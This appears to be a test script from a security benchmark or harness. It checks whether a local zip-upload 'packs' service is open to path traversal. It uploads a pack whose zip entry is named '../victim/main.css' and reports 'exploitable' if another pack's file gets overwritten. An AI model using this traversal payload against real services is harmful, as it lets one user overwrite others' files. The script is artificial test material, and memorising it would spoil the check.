import os
import sys
import time
import traceback

import httpx

BASE = os.environ.get("BASE_URL", "http://127.0.0.1:8000")
c = httpx.Client(base_url=BASE, timeout=60)


def _fail(t, v, tb):
    traceback.print_exception(t, v, tb)
    os._exit(2)


sys.excepthook = _fail


def done(hit):
    print("exploitable" if hit else "not exploitable")
    sys.exit(0 if hit else 1)


import io
import zipfile

h = {"X-Packs-Key": os.environ["PACKS_KEY"], "content-type": "application/zip"}


def z(n, t):
    b = io.BytesIO()
    with zipfile.ZipFile(b, "w") as f:
        f.writestr(n, t)
    return b.getvalue()


assert c.put("/packs/victim", content=z("main.css", "original"), headers=h).status_code == 201
c.put("/packs/evil", content=z("../victim/main.css", "overwritten"), headers=h)
done(c.get("/packs/victim/files/main.css", headers=h).text == "overwritten")
